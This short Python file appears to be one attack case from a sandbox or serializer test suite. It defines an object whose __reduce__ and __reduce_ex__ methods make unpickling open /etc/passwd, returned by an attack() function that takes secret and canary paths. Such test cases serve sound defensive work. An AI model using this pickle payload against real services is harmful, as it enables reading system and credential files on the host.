# mypy: ignore-errors
# Technique: `__reduce__`/`__reduce_ex__` returned to the host hoping the wire encoder pickles it.
class R:
    def __reduce__(self):
        return (open, ("/etc/passwd",))

    def __reduce_ex__(self, proto):
        return (open, ("/etc/passwd",))


def attack(secret_path, canary_path):
    return R()
